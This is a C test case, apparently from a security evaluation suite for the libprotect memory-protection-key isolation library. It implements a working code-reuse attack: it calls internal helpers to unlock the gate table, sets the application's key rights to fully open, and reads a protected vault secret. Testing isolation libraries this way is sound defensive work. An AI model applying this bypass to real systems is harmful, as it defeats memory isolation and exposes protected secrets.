/* Code reuse into libprotect's update helpers: gate_table_unlock (an
 * mprotect of the gate table through the trusted page) called as the
 * attacker likes, the application's rights in the table set to every key
 * open, then pku_write_checked (which lets through any rights the table
 * says the application has) asked for them.  Known open: the helpers that
 * make libprotect's tables writable are reached like the trusted page. */
#define _GNU_SOURCE
#include "attack.h"
#include "libprotect_symbols.h"

#include <stdint.h>

#define GT_APP_PKRU (16 << 7) /* gate_layout.h: MAX_DOMAINS << DG_SHIFT */

int main(void)
{
    vault_open();
    void (*unlock)(void) = libprotect_symbol("gate_table_unlock");
    void (*write_checked)(uint32_t) = libprotect_symbol("pku_write_checked");
    uint8_t *table = libprotect_symbol("protect_gate_page");
    if (!unlock || !write_checked || !table)
        blocked("libprotect's helpers not found");
    unlock();
    *(volatile uint32_t *)(table + GT_APP_PKRU) = 0;
    write_checked(0);
    read_secret_at(VAULT_DATA, vault_address(VAULT_DATA)->secret);
}
